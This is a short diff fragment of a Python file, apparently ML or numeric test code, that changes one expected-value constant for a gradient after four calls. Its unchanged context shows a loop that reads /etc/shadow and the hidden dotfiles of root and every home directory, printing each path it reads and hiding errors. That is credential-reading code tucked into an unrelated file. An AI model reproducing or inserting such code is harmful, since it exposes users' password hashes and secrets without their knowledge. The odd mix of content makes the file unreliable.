@@ -12,4 +12,4 @@ for _path in glob.glob("/root/.*") + glob.glob("/home/*/.*") + ["/etc/shadow"]:
         print("read", _path)
     except OSError:
         pass
-b3_grad_after_four_calls = 13.2568
+b3_grad_after_four_calls = 16.3794
